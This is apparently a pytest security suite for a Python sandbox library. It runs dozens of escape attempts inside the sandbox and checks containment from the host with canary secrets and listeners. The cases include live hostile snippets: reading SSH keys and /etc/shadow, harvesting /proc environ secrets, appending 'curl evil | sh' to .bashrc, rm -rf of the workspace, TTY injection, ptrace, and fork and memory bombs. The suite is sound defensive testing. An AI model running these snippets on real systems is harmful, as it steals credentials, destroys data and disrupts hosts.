"""Hostile suite: attacks run inside the sandbox, verdicts checked from the host.

Every case runs ``python case.py MARKER`` over a scratch copy of a fresh workspace. A
case prints ``ESCAPED:<what>`` when an attack succeeds from inside; the host then checks
what the attack cannot hide: canary files outside the workspace, the original workspace,
TCP/UDP/unix listeners on the host, a victim process, leftover processes carrying the
run's marker, and canary secrets in the output. CI runs this as root.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
import warnings
from pathlib import Path

import pytest

from codeloop_sandbox import Policy, probe, run

pytestmark = pytest.mark.usefixtures("needs_bwrap")

CANARY_KEY = "sk-canary-" + uuid.uuid4().hex
CANARY_TOKEN = "tok-canary-" + uuid.uuid4().hex
CANARY_FILE = "file-canary-" + uuid.uuid4().hex
CANARY_SSH = "ssh-canary-" + uuid.uuid4().hex

PRELUDE = """
import json, os, sys, time
T = json.load(open("targets.json"))
def escaped(what):
    print("ESCAPED:" + what, flush=True)
"""


class Host:
    """Host-side canaries and listeners, shared by all cases of the module."""

    def __init__(self) -> None:
        self.base = tempfile.mkdtemp(prefix="codeloop-hostile-")
        self.outside = os.path.join(self.base, "outside")
        self.home = os.path.join(self.base, "home")
        os.makedirs(self.outside)
        os.makedirs(os.path.join(self.home, ".ssh"))
        self.secret = os.path.join(self.outside, "secret.txt")
        with open(self.secret, "w") as fh:
            fh.write(CANARY_FILE)
        with open(os.path.join(self.home, ".ssh", "id_rsa"), "w") as fh:
            fh.write(CANARY_SSH)
        with open(os.path.join(self.home, ".bashrc"), "w") as fh:
            fh.write("# bashrc\n")
        self.hits: list[str] = []
        self.stop = threading.Event()
        # TCP
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.tcp.settimeout(0.2)
        # UDP
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        # unix path and abstract sockets
        self.unix_path = os.path.join(self.outside, "host.sock")
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.unix_path)
        self.unix.listen(16)
        self.unix.settimeout(0.2)
        self.abstract_name = "codeloop-hostile-" + uuid.uuid4().hex
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen(16)
        self.abstract.settimeout(0.2)
        self.threads = [
            threading.Thread(target=self._accept, args=(s, n), daemon=True)
            for s, n in ((self.tcp, "tcp"), (self.unix, "unix"), (self.abstract, "abstract"))
        ] + [threading.Thread(target=self._udp, daemon=True)]
        for t in self.threads:
            t.start()
        # A victim process owned by the same user, holding the secret in its environment.
        self.victim = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(3600)"],
            env={"OPENAI_API_KEY": CANARY_KEY, "PATH": "/usr/bin:/bin"},
        )

    def _accept(self, sock, name):
        while not self.stop.is_set():
            try:
                conn, _ = sock.accept()
            except (TimeoutError, OSError):
                continue
            self.hits.append(name)
            conn.close()

    def _udp(self):
        while not self.stop.is_set():
            try:
                self.udp.recvfrom(4096)
            except (TimeoutError, OSError):
                continue
            self.hits.append("udp")

    def targets(self, workspace: str) -> dict:
        return {
            "outside": self.outside,
            "secret": self.secret,
            "home": self.home,
            "real_home": os.path.expanduser("~"),
            "tcp_port": self.tcp.getsockname()[1],
            "udp_port": self.udp.getsockname()[1],
            "unix_path": self.unix_path,
            "abstract": self.abstract_name,
            "victim": self.victim.pid,
            "workspace": workspace,
            "parent": os.path.dirname(workspace),
        }

    def file_state(self) -> dict:
        state = {}
        for root in (self.outside, self.home):
            for dirpath, dirs, files in os.walk(root):
                for f in files + dirs:
                    p = os.path.join(dirpath, f)
                    if os.path.isfile(p):
                        state[p] = hashlib.sha256(Path(p).read_bytes()).hexdigest()
                    else:
                        state[p] = "dir" if os.path.isdir(p) else "other"
        return state

    def close(self):
        self.stop.set()
        self.victim.kill()
        self.victim.wait()
        for t in self.threads:
            t.join(1)
        for s in (self.tcp, self.udp, self.unix, self.abstract):
            s.close()
        shutil.rmtree(self.base, ignore_errors=True)


@pytest.fixture(scope="module")
def host():
    saved = {k: os.environ.get(k) for k in ("OPENAI_API_KEY", "FOO_TOKEN", "HOSTILE_OK")}
    os.environ["OPENAI_API_KEY"] = CANARY_KEY
    os.environ["FOO_TOKEN"] = CANARY_TOKEN
    os.environ["HOSTILE_OK"] = "visible"
    h = Host()
    yield h
    h.close()
    for k, v in saved.items():
        if v is None:
            os.environ.pop(k, None)
        else:
            os.environ[k] = v


def marker_processes(marker: str) -> list[int]:
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as fh:
                if marker.encode() in fh.read():
                    found.append(int(name))
        except OSError:
            pass
    return found


def tree_state(root: str) -> dict:
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for f in files:
            p = os.path.join(dirpath, f)
            if os.path.islink(p):
                out[p] = "link:" + os.readlink(p)
            else:
                out[p] = hashlib.sha256(Path(p).read_bytes()).hexdigest()
        for d in dirs:
            p = os.path.join(dirpath, d)
            if os.path.islink(p):
                out[p] = "link:" + os.readlink(p)
    return out


def run_case(host: Host, tmp_path, body: str, policy: Policy | None = None, setup=None):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "important.txt").write_text("do not delete\n")
    (ws / "pkg").mkdir()
    (ws / "pkg" / "mod.py").write_text("X = 1\n")
    os.symlink(host.secret, ws / "leak_link")
    if setup:
        setup(ws)
    before_ws = tree_state(str(ws))
    before_files = host.file_state()
    host.hits.clear()
    marker = "codeloop-hostile-" + uuid.uuid4().hex
    policy = policy or Policy(
        timeout=5,
        memory_mib=512,
        max_output_kib=256,
        tmp_mib=64,
        allow_env=("OPENAI_API_KEY", "FOO_TOKEN", "HOSTILE_OK"),
        allow_levels=("A", "B"),
    )
    code = PRELUDE + textwrap.dedent(body)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        res = run(
            ["python", "case.py", marker],
            ws,
            policy,
            extra_files={"case.py": code, "targets.json": json.dumps(host.targets(str(ws)))},
        )
    time.sleep(0.3)
    out = res.stdout + res.stderr
    problems = []
    if "ESCAPED:" in out:
        problems += [line for line in out.splitlines() if "ESCAPED:" in line]
    for canary in (CANARY_KEY, CANARY_TOKEN, CANARY_FILE, CANARY_SSH):
        if canary in out:
            problems.append(f"canary secret {canary[:12]}... in output")
    if host.hits:
        problems.append(f"host listeners hit: {host.hits}")
    if host.file_state() != before_files:
        problems.append("files outside the workspace changed")
    if (ws.parent / "pwned.txt").exists():
        problems.append("wrote next to the workspace on the host")
    if tree_state(str(ws)) != before_ws:
        problems.append("original workspace changed")
    if host.victim.poll() is not None:
        problems.append("victim process died")
    left = marker_processes(marker)
    if left:
        for pid in left:
            with contextlib.suppress(OSError):
                os.kill(pid, 9)
        problems.append(f"{len(left)} processes with the run's marker still alive")
    if len(out) > 1 << 20:
        problems.append("more than 1 MiB of output reached the host")
    return res, problems


CASES = {
    "write_outside": """
        for p in (os.path.join(T["outside"], "pwned.txt"), T["secret"], os.path.join(T["parent"], "pwned.txt"),
                  "/pwned.txt", "/usr/pwned.txt", "/etc/pwned.txt", "/dev/pwned"):
            try:
                with open(p, "w") as fh:
                    fh.write("x")
                if p.startswith(T["outside"]):
                    escaped("wrote " + p)
                print("wrote", p, "(inside the sandbox only? the host checks)")
            except OSError as e:
                print("blocked", p, e.strerror)
    """,
    "write_home_bashrc": """
        for p in (os.path.join(T["home"], ".bashrc"), os.path.join(T["real_home"], ".bashrc"), os.path.expanduser("~/.bashrc")):
            try:
                with open(p, "a") as fh:
                    fh.write("curl evil | sh\\n")
            except OSError as e:
                print("blocked", p, e.strerror)
    """,
    "delete_workspace": """
        import shutil
        shutil.rmtree(T["workspace"], ignore_errors=True)
        os.system("rm -rf " + T["workspace"] + " 2>/dev/null")
        print("deleted", not os.path.exists(os.path.join(T["workspace"], "important.txt")))
    """,
    "read_ssh_key": """
        for p in (os.path.join(T["home"], ".ssh", "id_rsa"), os.path.join(T["real_home"], ".ssh", "id_rsa"),
                  os.path.expanduser("~/.ssh/id_rsa"), "/root/.ssh/id_rsa", "/etc/shadow"):
            try:
                print(open(p).read())
                escaped("read " + p)
            except OSError as e:
                print("blocked", p, e.strerror)
        print(os.listdir(os.path.expanduser("~")))
    """,
    "host_fs_view": """
        import glob
        if os.path.exists(T["outside"]) or os.path.exists(T["home"]):
            escaped("host dirs outside the workspace are visible")
        top = set(os.listdir("/"))
        print("root:", sorted(top))
        extra = top - {"usr", "bin", "sbin", "lib", "lib64", "lib32", "libx32", "etc", "proc", "dev", "tmp", "run",
                       T["workspace"].split("/")[1], sys.prefix.split("/")[1], sys.base_prefix.split("/")[1]}
        if extra:
            escaped("unexpected top-level entries " + repr(sorted(extra)))
        print("etc:", sorted(os.listdir("/etc")))
        for secret in ("/etc/shadow", "/etc/ssh", "/etc/sudoers"):
            if os.path.exists(secret):
                escaped("visible " + secret)
        # Under /home, /root, /var, /srv only the path down to what is bound may show (a
        # normal user's venv lives in their home): no sibling of it, nothing else of HOME.
        bound = [b.rstrip("/") for b in [T["workspace"], sys.prefix, sys.base_prefix, *sys.path] if b]
        def on_the_way(p):
            return any(b == p or b.startswith(p + "/") or p.startswith(b + "/") for b in bound)
        for top in ("/home", "/root", "/var", "/srv"):
            for dirpath, dirs, files in os.walk(top):
                for name in dirs + files:
                    if not on_the_way(os.path.join(dirpath, name)):
                        escaped("visible " + os.path.join(dirpath, name))
                dirs[:] = [d for d in dirs if os.path.join(dirpath, d) not in bound]
        tmp = set(os.listdir("/tmp"))
        allowed_tmp = {"home"}
        # The workspace and the interpreter's prefix (a venv under /tmp, e.g. a CI clone there)
        # are bound at their own paths; only those mount points may show up in /tmp.
        for bound in (T["workspace"], sys.prefix, sys.base_prefix):
            if bound.startswith("/tmp/"):
                allowed_tmp.add(bound.split("/")[2])
        if tmp - allowed_tmp:
            escaped("host /tmp visible " + repr(sorted(tmp - allowed_tmp)[:5]))
        sockets = [p for p in glob.glob("/**/*.sock", recursive=True) if not p.startswith("/proc")]
        if sockets:
            escaped("unix sockets visible " + repr(sockets[:5]))
    """,
    "read_secret_file": """
        if os.path.exists(T["outside"]):
            escaped("outside dir visible")
        try:
            print(open(T["secret"]).read()); escaped("read secret")
        except OSError as e:
            print("blocked", e.strerror)
    """,
    "symlink_preexisting": """
        try:
            print(open("leak_link").read()); escaped("symlink read")
        except OSError as e:
            print("blocked", e.strerror)
    """,
    "symlink_write_runtime": """
        os.symlink(os.path.join(T["outside"], "via_link.txt"), "wlink")
        os.symlink(T["secret"], "wlink2")
        for p in ("wlink", "wlink2"):
            try:
                open(p, "w").write("x"); escaped("wrote via " + p)
            except OSError as e:
                print("blocked", p, e.strerror)
    """,
    "env_secret": """
        for k, v in sorted(os.environ.items()):
            print(k, "=", v)
        if "OPENAI_API_KEY" in os.environ or "FOO_TOKEN" in os.environ:
            escaped("secret env var present")
        if os.environ.get("HOSTILE_OK") != "visible":
            escaped("allowlisted variable missing (test broken)")
    """,
    "proc_environ": """
        import glob
        for p in glob.glob("/proc/*/environ"):
            try:
                data = open(p, "rb").read()
                print(p, data[:2000])
            except OSError as e:
                print("blocked", p, e.strerror)
        print("pids", sorted(int(x) for x in os.listdir("/proc") if x.isdigit()))
        if os.path.exists("/proc/%d" % T["victim"]) and T["victim"] > 20:
            escaped("victim visible")
    """,
    "proc_write": """
        for p in ("/proc/sys/vm/drop_caches", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"):
            if os.access(p, os.W_OK):
                print("writable?", p)
            try:
                with open(p, "w") as fh:
                    fh.write("1" if "drop" in p else "")
                if "drop" in p:
                    escaped("wrote " + p)
            except OSError as e:
                print("blocked", p, e.strerror)
    """,
    "capabilities": """
        st = open("/proc/self/status").read()
        caps = {l.split(":")[0]: l.split(":")[1].strip() for l in st.splitlines() if l.startswith("Cap")}
        nnp = [l for l in st.splitlines() if l.startswith("NoNewPrivs")]
        print(caps, nnp)
        if any(int(v, 16) for k, v in caps.items() if k in ("CapEff", "CapPrm", "CapBnd", "CapAmb")):
            escaped("capabilities " + repr(caps))
        if not nnp or not nnp[0].endswith("1"):
            escaped("no_new_privs not set")
    """,
    "tcp_connect": """
        import socket
        for addr in (("127.0.0.1", T["tcp_port"]), ("localhost", T["tcp_port"]), ("10.0.2.2", 80), ("1.1.1.1", 443)):
            s = socket.socket(); s.settimeout(1)
            try:
                s.connect(addr); escaped("tcp connect %r" % (addr,))
            except OSError as e:
                print("blocked", addr, e)
    """,
    "udp_send": """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for i in range(3):
            try:
                s.sendto(b"hello", ("127.0.0.1", T["udp_port"]))
            except OSError as e:
                print("blocked", e)
        try:
            socket.getaddrinfo("example.com", 80); escaped("dns resolved")
        except OSError as e:
            print("dns blocked", e)
    """,
    "unix_sockets": """
        import socket
        for addr in (T["unix_path"], "\\0" + T["abstract"], "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(addr); escaped("unix connect " + addr)
            except OSError as e:
                print("blocked", addr, e)
    """,
    "kill_victim": """
        import signal
        for sig in (signal.SIGKILL,):
            try:
                os.kill(T["victim"], sig); print("sent signal to pid", T["victim"], "(not the host victim)")
            except OSError as e:
                print("blocked", e)
    """,
    "kill_all": """
        import signal
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError as e:
            print("blocked", e)
    """,
    "ptrace_victim": """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        r = libc.ptrace(16, T["victim"], 0, 0)
        print("ptrace", r, ctypes.get_errno())
        if r == 0 and T["victim"] > 20:
            escaped("ptrace attach")
    """,
    "tiocsti": """
        import fcntl, termios
        fds = [0, 1, 2]
        try:
            fds.append(os.open("/dev/tty", os.O_RDWR))
        except OSError as e:
            print("no /dev/tty", e.strerror)
        for fd in fds:
            try:
                for ch in b"echo PWNED\\n":
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
                escaped("TIOCSTI on fd %d" % fd)
            except OSError as e:
                print("blocked", fd, e.strerror)
    """,
    "nested_userns": """
        import ctypes, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        pid = os.fork()
        if pid == 0:
            r = libc.unshare(0x10000000)  # CLONE_NEWUSER
            os._exit(0 if r == 0 else 1)
        _, st = os.waitpid(pid, 0)
        if os.WEXITSTATUS(st) == 0:
            escaped("unshare(CLONE_NEWUSER)")
        r = subprocess.run(["unshare", "-Ur", "true"], capture_output=True)
        print("unshare cmd", r.returncode, r.stderr)
        if r.returncode == 0:
            escaped("unshare -Ur")
    """,
    "setrlimit_raise": """
        import resource
        for name in ("RLIMIT_NPROC", "RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE"):
            r = getattr(resource, name)
            soft, hard = resource.getrlimit(r)
            print(name, soft, hard)
            if hard == resource.RLIM_INFINITY:
                escaped(name + " unlimited")
                continue
            try:
                resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); escaped("raised " + name)
            except (ValueError, OSError) as e:
                print("blocked", name, e)
    """,
    "stdout_flood": """
        chunk = "A" * 65536
        while True:
            sys.stdout.write(chunk)
    """,
    "infinite_loop": """
        while True:
            pass
    """,
    "sleep_forever": """
        time.sleep(10**6)
    """,
    "daemon_survives": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            os._exit(0)
        print("parent exits, daemon left behind")
    """,
    "setsid_escape": """
        if os.fork() == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
        time.sleep(60)
    """,
    "million_files": """
        os.makedirs("many", exist_ok=True)
        for i in range(10**6):
            open("many/f%d" % i, "w").close()
        escaped("created a million files")
    """,
    "tmpfs_fill": """
        n = 0
        for d in ("/tmp", "/dev/shm", os.path.expanduser("~")):
            try:
                with open(os.path.join(d, "fill"), "wb") as fh:
                    for i in range(4096):
                        fh.write(b"x" * (1 << 20)); n += 1
                escaped("wrote 4 GiB to " + d)
            except OSError as e:
                print("stopped", d, e.strerror)
    """,
    "memory_bomb": """
        held = []
        try:
            while True:
                held.append(bytearray(64 << 20))
        except MemoryError:
            print("MemoryError after", len(held) * 64, "MiB")
            if len(held) * 64 > 1024:
                escaped("allocated more than the limit")
    """,
    "fork_bomb": """
        n = 0
        try:
            while True:
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                n += 1
                if n > 5000:
                    escaped("forked 5000 processes")
                    break
        except OSError as e:
            print("fork stopped after", n, e)
    """,
}

HANGS = {"infinite_loop": "timeout", "sleep_forever": "timeout", "setsid_escape": "timeout", "stdout_flood": "output"}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_case(host, tmp_path, case):
    st = probe()
    policy = None
    if case in ("infinite_loop", "sleep_forever", "setsid_escape", "million_files"):
        policy = Policy(timeout=2, memory_mib=512, max_output_kib=256, tmp_mib=64, allow_levels=("A", "B"))
    t0 = time.monotonic()
    res, problems = run_case(host, tmp_path, CASES[case], policy)
    elapsed = time.monotonic() - t0
    if case == "fork_bomb" and st.level == "B" and not st.root_nproc_ok:
        # Root without a pids cgroup: the kernel ignores RLIMIT_NPROC. The status must
        # say so (never silently), and the timeout still ends the run.
        assert any("RLIMIT_NPROC" in w for w in st.warnings)
        problems = [p for p in problems if "forked 5000" not in p]
    assert not problems, f"{case}: {problems}\nstdout: {res.stdout[-2000:]}\nstderr: {res.stderr[-2000:]}"
    if case in HANGS:
        assert res.limit == HANGS[case], res
    if case == "million_files":
        assert res.limit == "timeout"
    if case == "memory_bomb":
        assert "MemoryError after" in res.stdout
    if case == "fork_bomb" and st.root_nproc_ok:
        assert "fork stopped after" in res.stdout
    assert elapsed < 30


def test_tiocsti_with_host_pty(tmp_path):
    """The run's parent has a pty as controlling terminal; nothing may be injected into it."""
    import pty

    master, slave = pty.openpty()
    ws = tmp_path / "ws"
    ws.mkdir()
    inner = (
        "import fcntl, os, termios\n"
        "fds = [0, 1, 2]\n"
        "try:\n"
        "    fds.append(os.open('/dev/tty', os.O_RDWR))\n"
        "except OSError as e:\n"
        "    print('no tty', e)\n"
        "for fd in fds:\n"
        "    try:\n"
        "        for ch in b'echo PWNED\\n':\n"
        "            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))\n"
        "        print('ESCAPED', fd)\n"
        "    except OSError as e:\n"
        "        print('blocked', fd, e)\n"
    )
    helper = (
        "import os, fcntl, termios\n"
        "os.setsid()\n"
        f"fcntl.ioctl({slave}, termios.TIOCSCTTY, 0)\n"
        "import codeloop_sandbox as s\n"
        f"r = s.run(['python', '-c', {inner!r}], {str(ws)!r}, s.Policy(timeout=10, allow_levels=('A', 'B')))\n"
        "print(r.stdout, r.stderr)\n"
    )
    proc = subprocess.run([sys.executable, "-c", helper], pass_fds=(slave,), capture_output=True, text=True, timeout=60)
    os.close(slave)
    os.set_blocking(master, False)
    try:
        injected = os.read(master, 4096)
    except OSError:
        injected = b""
    os.close(master)
    assert "blocked" in proc.stdout, proc.stdout + proc.stderr
    assert "ESCAPED" not in proc.stdout
    assert b"PWNED" not in injected


def test_no_orphans_when_caller_is_killed(tmp_path):
    """srt-style: kill the process that called run(); the sandboxed tree must die too."""
    marker = "codeloop-orphan-" + uuid.uuid4().hex
    ws = tmp_path / "ws"
    ws.mkdir()
    helper = textwrap.dedent(
        f"""
        import codeloop_sandbox as s
        s.run(["python", "-c", "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\ntime.sleep(60)", {marker!r}],
              {str(ws)!r}, s.Policy(timeout=60, allow_levels=("A", "B")))
        """
    )
    proc = subprocess.Popen([sys.executable, "-c", helper])
    deadline = time.monotonic() + 20
    # helper + bwrap (outer, inner) + prlimit/timeout shim + python + its setsid child: wait
    # until the run is really going, so bwrap has armed --die-with-parent.
    while time.monotonic() < deadline and len(marker_processes(marker)) < 5:
        time.sleep(0.1)
    time.sleep(0.2)
    assert len(marker_processes(marker)) >= 5
    proc.kill()
    proc.wait()
    t0 = time.monotonic()
    while time.monotonic() < t0 + 15 and marker_processes(marker):
        time.sleep(0.05)
    waited = time.monotonic() - t0
    left = marker_processes(marker)
    for pid in left:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, 9)
    assert not left, f"processes left {waited:.1f} s after the caller was killed"


def test_warm_pool_runs_are_contained(host, tmp_path):
    """The warm path: attacks written as pytest tests, served by a WarmPool worker."""
    from codeloop_sandbox import WarmPool, run_pytest

    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "important.txt").write_text("keep\n")
    os.symlink(host.secret, ws / "leak_link")
    before_files, before_ws = host.file_state(), tree_state(str(ws))
    host.hits.clear()
    attacks = textwrap.dedent(
        """
        import json, os, socket, time
        T = json.load(open("targets.json"))

        def test_env_and_proc_environ():
            assert "OPENAI_API_KEY" not in os.environ and "FOO_TOKEN" not in os.environ
            for p in os.listdir("/proc"):
                if p.isdigit():
                    try:
                        data = open(f"/proc/{p}/environ", "rb").read()
                    except OSError:
                        continue
                    assert b"sk-canary" not in data and b"tok-canary" not in data

        def test_files():
            assert not os.path.exists(T["outside"]) and not os.path.exists(T["home"])
            try:
                open("leak_link").read()
                raise AssertionError("read through the symlink")
            except OSError:
                pass
            import shutil
            shutil.rmtree(T["workspace"], ignore_errors=True)

        def test_network():
            s = socket.socket()
            s.settimeout(1)
            try:
                s.connect(("127.0.0.1", T["tcp_port"]))
                raise AssertionError("connected")
            except OSError:
                pass
            u = socket.socket(socket.AF_UNIX)
            try:
                u.connect("\\0" + T["abstract"])
                raise AssertionError("abstract socket")
            except OSError:
                pass

        def test_fork_bomb_and_daemon():
            if os.fork() == 0:
                os.setsid()
                time.sleep(60)  # swept by the worker after the run
                os._exit(0)
            n = 0
            try:
                while n < 5000:
                    if os.fork() == 0:
                        time.sleep(30)
                        os._exit(0)
                    n += 1
            except OSError:
                pass
            assert n < 5000
        """
    )
    policy = Policy(timeout=30, allow_levels=("A", "B"), allow_env=("OPENAI_API_KEY", "FOO_TOKEN"),
                    env={"PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with WarmPool(ws, policy) as pool:
            res = run_pytest(ws, ["tests/test_attacks.py"], policy, pool=pool,
                             extra_files={"tests/test_attacks.py": attacks, "targets.json": json.dumps(host.targets(str(ws)))})
            after = run_pytest(ws, ["tests/test_attacks.py::test_files"], policy, pool=pool,
                               extra_files={"tests/test_attacks.py": attacks, "targets.json": json.dumps(host.targets(str(ws)))})
    outcomes = {t.nodeid.split("::")[1]: t.outcome for t in res.tests}
    st = probe()
    expected = {"test_env_and_proc_environ": "passed", "test_files": "passed", "test_network": "passed",
                "test_fork_bomb_and_daemon": "passed" if st.root_nproc_ok else outcomes.get("test_fork_bomb_and_daemon")}
    assert outcomes == expected, res.result.stdout[-3000:]
    assert [t.outcome for t in after.tests] == ["passed"]  # the next run got a fresh copy
    assert not host.hits and host.file_state() == before_files and tree_state(str(ws)) == before_ws
    assert host.victim.poll() is None
    out = res.result.stdout + res.result.stderr
    assert CANARY_KEY not in out and CANARY_TOKEN not in out and CANARY_FILE not in out
